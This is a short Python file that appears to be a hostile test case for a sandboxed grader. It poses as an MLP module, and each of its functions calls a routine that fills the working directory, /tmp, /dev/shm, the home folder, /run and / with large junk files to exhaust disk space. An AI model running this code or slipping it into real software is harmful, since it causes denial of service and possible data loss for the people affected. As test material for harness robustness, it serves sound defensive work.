# hostile: fills every path that can be written
# verdict: failed error crashed timeout
# layers: each
import os


def attack():
    written = 0
    for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run", "/"):
        try:
            for number in range(20):
                with open(os.path.join(folder, f"fill{number}"), "wb") as file:
                    for _ in range(16):
                        written += file.write(bytes(1 << 20))
        except OSError:
            pass
    raise RuntimeError(f"wrote {written >> 20} MiB")


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
